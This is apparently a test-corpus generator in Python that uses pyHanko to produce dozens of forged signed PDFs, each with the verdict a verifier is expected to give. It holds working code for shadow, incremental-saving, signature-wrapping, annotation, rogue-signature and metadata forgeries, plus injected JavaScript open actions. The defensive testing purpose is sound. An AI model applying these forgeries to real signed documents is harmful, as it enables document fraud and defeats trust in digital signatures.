def _redefine_content(pdf: bytes, ctx: ForgeryContext, transform: Callable[[bytes, tuple], bytes]) -> bytes:
    """Replace the content stream that draws the name by a new one with the same number."""
    def edit(w):
        ref, replaced = _name_replaced_stream(w, ctx)
        original = ref.get_object().data
        w.objects[(0, ref.idnum)] = generic.StreamObject(stream_data=transform(original, replaced))
    return _update(pdf, edit)


def _shadow_hide_text(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """Same-numbered content stream that ends with a white box over the name: the name
    disappears, nothing else on the page moves."""
    box = _box(pdf, ctx)
    return _redefine_content(pdf, ctx, lambda original, replaced: original + b"\n" + white_box_ops(box))


def _shadow_replace_text(pdf: bytes, ctx: ForgeryContext) -> bytes:
    return _redefine_content(pdf, ctx, lambda original, replaced: replaced)


def _shadow_hide_xobject(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """An opaque form XObject over the name, registered in the page resources and painted
    by an appended content stream (the genuine page has no XObject of its own to swap)."""
    def edit(w):
        box = _box(pdf, ctx)
        xo = _appearance(w, box, ctx.forged_text)
        paint = f"q 1 0 0 1 {box[0]} {box[1]} cm /FmForged Do Q".encode()
        stream = w.add_object(generic.StreamObject(stream_data=paint))
        w.add_stream_to_page(0, stream, resources=generic.DictionaryObject({
            pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/FmForged"): xo})}))
    return _update(pdf, edit)


def _shadow_replace_font(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The embedded font that draws the name redefined (same object number) as plain
    Helvetica: every glyph of that font now draws something else."""
    def edit(w):
        page = _page(w)[1]
        fonts = page["/Resources"]["/Font"]
        for key, cmap in _page_fonts(page).items():
            if ctx.name[0] in cmap and isinstance(fonts.raw_get(key), generic.IndirectObject):
                w.objects[(0, fonts.raw_get(key).idnum)] = _helvetica()
                return
        raise LookupError("no indirect font draws the name")
    return _update(pdf, edit)


def _field_over_name(field_type: str, title: str, **entries):
    """A form field over the name whose widget appearance paints a white box and the
    forged name: a text field (shadow replace), a push button with nothing to fill in
    (evil annotation) or an empty signature field (sneaky signature)."""
    def build(pdf: bytes, ctx: ForgeryContext) -> bytes:
        def edit(w):
            box = _box(pdf, ctx)
            field = generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name(field_type), pdf_name("/T"): pdf_string(title),
                pdf_name("/F"): generic.NumberObject(4), pdf_name("/Rect"): _numbers(box),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w, box, ctx.forged_text)}),
            })
            for key, value in entries.items():
                field[pdf_name("/" + key)] = value(ctx) if callable(value) else value
            _add_annotation(w, field, field_too=True)
        return _update(pdf, edit)
    return build


_shadow_replace_form_field = _field_over_name("/Tx", "applicant", V=lambda ctx: pdf_string(ctx.forged_text),
                                              DA=pdf_string("/Helv 12 Tf 0 g"))
_pushbutton = _field_over_name("/Btn", "stamp", Ff=generic.NumberObject(1 << 16))
_ssa_unsigned_field = _field_over_name("/Sig", "Reviewer")


def _shadow_hide_and_replace(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """Catalog, page tree, page and content stream all redefined under their own object
    numbers: a new document behind the same references."""
    def edit(w):
        page_ref, page = _page(w)
        pages_ref = w.root.raw_get("/Pages")
        ref, replaced = _name_replaced_stream(w, ctx)
        w.objects[(0, ref.idnum)] = generic.StreamObject(stream_data=replaced)
        w.objects[(0, page_ref.idnum)] = generic.DictionaryObject(page)
        w.objects[(0, pages_ref.idnum)] = generic.DictionaryObject(pages_ref.get_object())
        w.update_root()
    return _update(pdf, edit)


# ------------------------------------------------------------------------------- EAA

def _annotation(subtype: str, *, appearance: bool = True, **extra):
    """An annotation of ``subtype`` over the name, with an opaque appearance."""
    def build(pdf: bytes, ctx: ForgeryContext) -> bytes:
        def edit(w):
            box = _box(pdf, ctx)
            annot = generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): _numbers(box), pdf_name("/F"): generic.NumberObject(4),
            })
            if appearance:
                normal = _appearance(w, box, ctx.forged_text)
                annot[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): normal})
            for key, value in extra.items():
                annot[pdf_name("/" + key)] = value(ctx) if callable(value) else value
            _add_annotation(w, annot)
        return _update(pdf, edit)
    return build


def _white() -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(1)] * 3)


# ------------------------------------------------------------------------------- SSA

class _DocMdpIgnoringSigner(signers.PdfSigner):
    """pyHanko refuses to sign after a P=1 certification ("Author signature forbids all
    changes"); a forger's copy of the tool does not."""

    def _enforce_certification_constraints(self, reader):
        return None


def _ssa_rogue_signature(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A second, cryptographically valid signature by the forger's self-signed key, in a
    visible field over the name whose stamp (white, opaque) shows the forged text."""
    from pyhanko.pdf_utils.content import RawContent
    from pyhanko.pdf_utils.layout import BoxConstraints
    from pyhanko.stamp import TextStampStyle

    box = _box(pdf, ctx)
    width, height = box[2] - box[0], box[3] - box[1]
    style = TextStampStyle(
        stamp_text=ctx.forged_text, border_width=0, background_opacity=1.0,
        background=RawContent(f"1 1 1 rg 0 0 {width:.2f} {height:.2f} re f".encode(),
                              box=BoxConstraints(width, height)),
    )
    signer = _DocMdpIgnoringSigner(
        signers.PdfSignatureMetadata(field_name="Verification", md_algorithm="sha256",
                                     subfilter=fields.SigSeedSubFilter.PADES),
        signer=ctx.rogue_signer, stamp_style=style,
        new_field_spec=fields.SigFieldSpec("Verification", box=tuple(int(round(v)) for v in box)),
    )
    return signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)).getvalue()


def _ssa_visible_doc_timestamp(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A genuine document timestamp (a public TSA stamps anything) whose field, created in
    the same update, is visible with an appearance over the name: structurally it looks
    like an archive timestamp, a long-term-validation update."""
    if ctx.tsa is None:
        raise ValueError("this forgery needs a TSA in the context")
    box = _box(pdf, ctx)
    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    fields.append_signature_field(w, fields.SigFieldSpec("Archive", box=tuple(int(round(v)) for v in box)))
    for ref in w.root["/AcroForm"]["/Fields"]:
        fld = ref.get_object()
        if fld.get("/T") == "Archive":
            fld[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(w, box, ctx.forged_text)})
            fld[pdf_name("/F")] = generic.NumberObject(4)
            w.mark_update(ref)
    return signers.PdfTimeStamper(ctx.tsa, field_name="Archive").timestamp_pdf(w, "sha256").getvalue()


def _ssa_timestamp_over_forgery(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The page changed in one update, then a genuine, invisible document timestamp over
    the whole forged file: the last revision is a textbook LTV update."""
    if ctx.tsa is None:
        raise ValueError("this forgery needs a TSA in the context")
    forged = _isa_append(pdf, ctx)
    w = IncrementalPdfFileWriter(io.BytesIO(forged), strict=False)
    return signers.PdfTimeStamper(ctx.tsa, field_name="ArchiveTimestamp").timestamp_pdf(w, "sha256").getvalue()


# ------------------------------------------------------------------------------ META

def _meta_info_title(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A new /Info dictionary (new object, trailer /Info re-pointed) with another
    certificate number in /Title."""
    def edit(w):
        old = w.trailer["/Info"]
        info = generic.DictionaryObject(old)
        title = str(old.get("/Title", ""))
        info[pdf_name("/Title")] = pdf_string(re.sub(r"\d(?=\D*$)", lambda m: str((int(m.group()) + 1) % 10), title)
                                              if re.search(r"\d", title) else title + " (copy)")
        w.set_info(info)
    return _update(pdf, edit)


def _meta_info_same_object(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """/Info redefined in place (same object number) with another certificate id in
    /Keywords and another /Author: no new object, no visual change."""
    def edit(w):
        info_ref = w.trailer.raw_get("/Info")
        info = generic.DictionaryObject(info_ref.get_object())
        info[pdf_name("/Keywords")] = pdf_string("ENOTARY-ID:00000000-0000-4000-8000-000000000000")
        info[pdf_name("/Author")] = pdf_string(ctx.forged_text)
        w.objects[(0, info_ref.idnum)] = info
    return _update(pdf, edit)


def _meta_xmp(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The XMP metadata stream redefined (same number) with a dc:title and dc:creator the
    office never wrote (written by hand: pyHanko's writer rewrites XMP on every save)."""
    r = _reader(pdf)
    ref = r.root.raw_get("/Metadata")
    xml = r.root["/Metadata"].data
    added = ('<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt>'
             '<rdf:li xml:lang="x-default">公证书 (2026)沪东证字第999999号</rdf:li></rdf:Alt></dc:title>'
             f'<dc:creator><rdf:Seq><rdf:li>{ctx.forged_text}</rdf:li></rdf:Seq></dc:creator>'
             '</rdf:Description></rdf:RDF>').encode()
    new_xml, n = re.subn(rb"</rdf:RDF>", added, xml, count=1)
    if n != 1:
        raise LookupError("unexpected XMP layout")
    return _raw_revision(pdf, {ref.idnum: _raw_stream(new_xml, b"/Type /Metadata /Subtype /XML ")})


def _js_action(ctx: ForgeryContext) -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/S"): pdf_name("/JavaScript"),
        pdf_name("/JS"): pdf_string(f"app.alert('{ctx.forged_text}');"),
    })


def _catalog_entry(key: str, value_of: Callable[[IncrementalPdfFileWriter, ForgeryContext], generic.PdfObject]):
    def build(pdf: bytes, ctx: ForgeryContext) -> bytes:
        def edit(w):
            w.root[pdf_name(key)] = value_of(w, ctx)
            w.update_root()
        return _update(pdf, edit)
    return build


def _meta_page_aa(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """An additional action on page 1: JavaScript when the page opens."""
    def edit(w):
        page_ref, page = _page(w)
        page[pdf_name("/AA")] = generic.DictionaryObject({pdf_name("/O"): _js_action(ctx)})
        w.mark_update(page_ref)
    return _update(pdf, edit)


def _names_js(w, ctx):
    return generic.DictionaryObject({pdf_name("/JavaScript"): generic.DictionaryObject({
        pdf_name("/Names"): generic.ArrayObject([pdf_string("init"), w.add_object(_js_action(ctx))]),
    })})


def _meta_optional_content(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """/OCProperties with a layer that is on for the screen: the overlay over the name is
    drawn inside it (a viewer's layer settings decide what is shown or printed)."""
    def edit(w):
        ocg = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): pdf_string("Annotations"),
        }))
        w.root[pdf_name("/OCProperties")] = generic.DictionaryObject({
            pdf_name("/OCGs"): generic.ArrayObject([ocg]),
            pdf_name("/D"): generic.DictionaryObject({
                pdf_name("/ON"): generic.ArrayObject([ocg]), pdf_name("/Order"): generic.ArrayObject([ocg]),
            }),
        })
        w.update_root()
        box = _box(pdf, ctx)
        stream = w.add_object(generic.StreamObject(
            stream_data=b"/OC /ocForged BDC\n" + overlay_ops(box, ctx.forged_text) + b"EMC\n"))
        w.add_stream_to_page(0, stream, resources=generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name(OVERLAY_FONT): _helvetica()}),
            pdf_name("/Properties"): generic.DictionaryObject({pdf_name("/ocForged"): ocg}),
        }))
    return _update(pdf, edit)


def _meta_need_appearances(pdf: bytes, ctx: ForgeryContext) -> bytes:
    def edit(w):
        form = w.root["/AcroForm"]
        form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        w.update_container(form)
    return _update(pdf, edit)


def _meta_new_text_field(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A new, non-signature form field (text, with a value) just below the name."""
    def edit(w):
        x0, y0, x1, y1 = _box(pdf, ctx)
        box = (x0, y0 - 3 * (y1 - y0), x0 + 200, y0 - 2 * (y1 - y0))
        text = "VOID - " + ctx.forged_text
        _add_annotation(w, generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string("remark"),
            pdf_name("/V"): pdf_string(text), pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4), pdf_name("/Rect"): _numbers(box),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w, box, text)}),
        }), field_too=True)
    return _update(pdf, edit)


def _meta_xref_stream_objstm(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The update written with a cross-reference *stream* (the original has tables), the
    changed page object inside an object stream, pointing at forged content."""
    def edit(w):
        w.stream_xrefs = True
        objstm = w.prepare_object_stream()
        page_ref, page = _page(w)
        _, data = _name_replaced_stream(w, ctx)
        new_page = generic.DictionaryObject(page)
        new_page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=data))
        objstm.add_object(page_ref.idnum, new_page)
        w.objs_in_streams[page_ref.idnum] = new_page
    return _update(pdf, edit)


def _meta_hybrid_xref(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A hybrid-reference update: the classic xref table lists nothing new, the trailer's
    /XRefStm points at a cross-reference stream that maps the content stream to a forged
    one. A PDF 1.4 reader sees the original; PDF 1.5+ readers see the forgery."""
    base = _Base.of(pdf)
    num, body = _forged_content_object(pdf, ctx)
    out, offsets = _append_objects(pdf, {num: body})
    xstm = base.size
    xstm_at = len(out)
    rows = bytes([1]) + offsets[num].to_bytes(4, "big") + bytes(2)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1] /Length %d >>\nstream\n"
            % (xstm, xstm + 1, num, len(rows)) + rows + b"\nendstream\nendobj\n")
    at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n" + base.trailer(xstm + 1, extra=b"/XRefStm %d " % xstm_at)
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def _meta_delete_sig_field(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The signature field removed from /AcroForm /Fields (and its widget from the page),
    on a changed page: a validator that lists fields sees an unsigned document."""
    def edit(w):
        _append_overlay(w, pdf, ctx)
        form = w.root["/AcroForm"]
        form[pdf_name("/Fields")] = generic.ArrayObject(
            f for f in form["/Fields"] if f.get_object().get("/FT") != "/Sig")
        form.pop("/SigFlags", None)
        w.update_container(form)
        page_ref, page = _page(w)
        page[pdf_name("/Annots")] = generic.ArrayObject(
            a for a in page.get("/Annots", []) if a.get_object().get("/FT") != "/Sig")
        w.mark_update(page_ref)
    return _update(pdf, edit)


def _meta_dss_carries_content(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A DSS update (looks like LTV data) whose catalog change also re-points /Pages at a
    new page tree with forged content."""
    def edit(w):
        page_ref, page = _page(w)
        _, data = _name_replaced_stream(w, ctx)
        new_page = generic.DictionaryObject(page)
        new_page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=data))
        new_page_ref = w.add_object(new_page)
        pages = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Kids"): generic.ArrayObject([new_page_ref]),
            pdf_name("/Count"): generic.NumberObject(1)}))
        new_page[pdf_name("/Parent")] = pages
        dss = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/DSS"), pdf_name("/Certs"): generic.ArrayObject()}))
        w.root[pdf_name("/DSS")] = dss
        w.root[pdf_name("/Pages")] = pages
        w.update_root()
    return _update(pdf, edit)


# ------------------------------------------------------------------------------ corpus

def _br(sig, *, last=None) -> generic.ArrayObject:
    a, b, c, d = (int(v) for v in sig["/ByteRange"])
    return _numbers([a, b, c, d if last is None else last])


FORGERIES: list[Forgery] = [
    # --- Universal Signature Forgery: page changed + signature dictionary broken.
    Forgery("usf_contents_removed", USF, _usf(_delete("/Contents")), ANY_INTEGRITY),
    Forgery("usf_contents_empty", USF, _usf(_set("/Contents", lambda s, n: generic.ByteStringObject(b""))),
            ANY_INTEGRITY),
    Forgery("usf_contents_zero_filled", USF,
            _usf(_set("/Contents", lambda s, n: generic.ByteStringObject(bytes(len(s["/Contents"]))))),
            ANY_INTEGRITY),
    Forgery("usf_contents_null", USF, _usf(_set("/Contents", lambda s, n: generic.NullObject())),
            ANY_INTEGRITY),
    Forgery("usf_byterange_removed", USF, _usf(_delete("/ByteRange")), ANY_INTEGRITY),
    Forgery("usf_byterange_null", USF, _usf(_set("/ByteRange", lambda s, n: generic.NullObject())),
            ANY_INTEGRITY),
    Forgery("usf_byterange_zeros", USF, _usf(_set("/ByteRange", lambda s, n: _numbers([0, 0, 0, 0]))),
            ANY_INTEGRITY),
    Forgery("usf_byterange_covers_less", USF,
            _usf(_set("/ByteRange", lambda s, n: _br(s, last=int(s["/ByteRange"][3]) // 2))), ANY_INTEGRITY),
    Forgery("usf_byterange_outside_file", USF, _usf(_set("/ByteRange", lambda s, n: _br(s, last=10 * n))),
            ANY_INTEGRITY),
    Forgery("usf_filter_swapped", USF, _usf(_set("/Filter", lambda s, n: pdf_name("/Forged.Handler"))),
            ANY_INTEGRITY),
    Forgery("usf_subfilter_swapped", USF, _usf(_set("/SubFilter", lambda s, n: pdf_name("/adbe.x509.rsa_sha1"))),
            ANY_INTEGRITY),
    Forgery("usf_sigdict_copy_in_new_field", USF, _usf_copy_in_new_field, ANY_INTEGRITY),
    Forgery("usf_sigdict_copy_rebound", USF, _usf_copy_rebound, ANY_INTEGRITY),
    Forgery("usf_docmdp_reference_removed", USF, _usf_docmdp_removed, ANY_INTEGRITY),

    # --- Incremental Saving Attack.
    Forgery("isa_content_stream_added", ISA, _isa_append, MODIFIED),
    Forgery("isa_contents_replaced", ISA, _isa_replace_contents, MODIFIED),
    # pyHanko cannot read past the appended objects: the verifier reports a signed file whose
    # structure was damaged after signing (SIGNATURE_BROKEN, with that description).
    Forgery("isa_objects_without_xref", ISA, _isa_no_xref, ANY_INTEGRITY),
    Forgery("isa_xref_then_old_startxref", ISA, _isa_old_startxref, MODIFIED, visual=False),
    Forgery("isa_smuggled_object_in_dss_update", ISA, lambda p, c: _smuggled_in_dss_update(p, c, 0), MODIFIED,
            visual=False),
    Forgery("isa_smuggled_object_startxref_off_by_two", ISA, lambda p, c: _smuggled_in_dss_update(p, c, 2),
            ANY_INTEGRITY),
    Forgery("isa_trailer_prev_wrong", ISA, _isa_bad_prev, ANY_INTEGRITY),
    Forgery("isa_trailer_without_prev", ISA, _isa_no_prev, ANY_INTEGRITY),
    Forgery("isa_generation_bumped", ISA, _isa_generation_bump, MODIFIED),
    Forgery("isa_new_catalog_and_page_tree", ISA, _isa_new_root, MODIFIED),

    # --- Signature Wrapping Attack.
    Forgery("swa_gap_insert_byterange_patched", SWA, lambda p, c: _swa(p, c, redefine_sig=False), ANY_INTEGRITY),
    Forgery("swa_gap_insert_sigdict_redefined", SWA, lambda p, c: _swa(p, c, redefine_sig=True), ANY_INTEGRITY),

    # --- Shadow attacks.
    Forgery("shadow_hide_overlay_xobject", SHADOW_HIDE, _shadow_hide_xobject, MODIFIED),
    Forgery("shadow_hide_text_same_object", SHADOW_HIDE, _shadow_hide_text, MODIFIED),
    Forgery("shadow_replace_text_same_object", SHADOW_REPLACE, _shadow_replace_text, MODIFIED),
    Forgery("shadow_replace_font", SHADOW_REPLACE, _shadow_replace_font, MODIFIED),
    Forgery("shadow_replace_form_field", SHADOW_REPLACE, _shadow_replace_form_field, MODIFIED, forms=True),
    Forgery("shadow_hide_and_replace_page_tree", SHADOW_HIDE_REPLACE, _shadow_hide_and_replace, MODIFIED),

    # --- Evil Annotation Attack.
    Forgery("eaa_freetext", EAA, _annotation("/FreeText", Contents=lambda c: pdf_string(c.forged_text),
                                              DA=pdf_string("/Helv 12 Tf 0 g")), MODIFIED),
    Forgery("eaa_stamp", EAA, _annotation("/Stamp", Name=pdf_name("/Approved")), MODIFIED),
    Forgery("eaa_redact", EAA, _annotation("/Redact", IC=_white(),
                                            OverlayText=lambda c: pdf_string(c.forged_text)), MODIFIED),
    Forgery("eaa_square_with_appearance", EAA, _annotation("/Square", IC=_white()), MODIFIED),
    Forgery("eaa_square_generated_appearance", EAA,
            _annotation("/Square", appearance=False, C=_white(), IC=_white()), MODIFIED),
    Forgery("eaa_link_white_box", EAA, _annotation("/Link", Border=_numbers([0, 0, 0])), MODIFIED),
    Forgery("eaa_pushbutton_white_box", EAA, _pushbutton, MODIFIED, forms=True),

    # --- Sneaky Signature Attack.
    Forgery("ssa_unsigned_signature_field", SSA, _ssa_unsigned_field, MODIFIED, forms=True),
    Forgery("ssa_second_signature_self_signed", SSA, _ssa_rogue_signature, MODIFIED, forms=True),
    Forgery("ssa_visible_doc_timestamp", SSA, _ssa_visible_doc_timestamp, MODIFIED, forms=True),
    Forgery("ssa_doc_timestamp_over_forgery", SSA, _ssa_timestamp_over_forgery, MODIFIED),

    # --- Metadata and structure.
    Forgery("meta_info_title_new_object", META, _meta_info_title, MODIFIED, visual=False),
    Forgery("meta_info_same_object", META, _meta_info_same_object, MODIFIED, visual=False),
    Forgery("meta_xmp_rewritten", META, _meta_xmp, MODIFIED, visual=False),
    Forgery("meta_openaction_javascript", META, _catalog_entry("/OpenAction", lambda w, c: _js_action(c)),
            MODIFIED, visual=False),
    Forgery("meta_catalog_aa", META, _catalog_entry("/AA", lambda w, c: generic.DictionaryObject(
        {pdf_name("/WC"): _js_action(c)})), MODIFIED, visual=False),
    Forgery("meta_page_aa", META, _meta_page_aa, MODIFIED, visual=False),
    Forgery("meta_names_javascript", META, _catalog_entry("/Names", _names_js), MODIFIED, visual=False),
    Forgery("meta_optional_content", META, _meta_optional_content, MODIFIED),
    Forgery("meta_acroform_need_appearances", META, _meta_need_appearances, MODIFIED, visual=False),
    Forgery("meta_acroform_new_text_field", META, _meta_new_text_field, MODIFIED, forms=True),
    Forgery("meta_xref_stream_object_stream", META, _meta_xref_stream_objstm, MODIFIED),
    Forgery("meta_hybrid_reference", META, _meta_hybrid_xref, MODIFIED),
    # The latest revision has no signature at all: reported as a signed file whose signature
    # was removed (SIGNATURE_BROKEN), not refused as an unsigned upload.
    Forgery("meta_signature_field_deleted", META, _meta_delete_sig_field, ANY_INTEGRITY),
    Forgery("meta_dss_with_new_page_tree", META, _meta_dss_carries_content, MODIFIED),
]

BY_NAME = {f.name: f for f in FORGERIES}
assert len(BY_NAME) == len(FORGERIES), "duplicate forgery names"
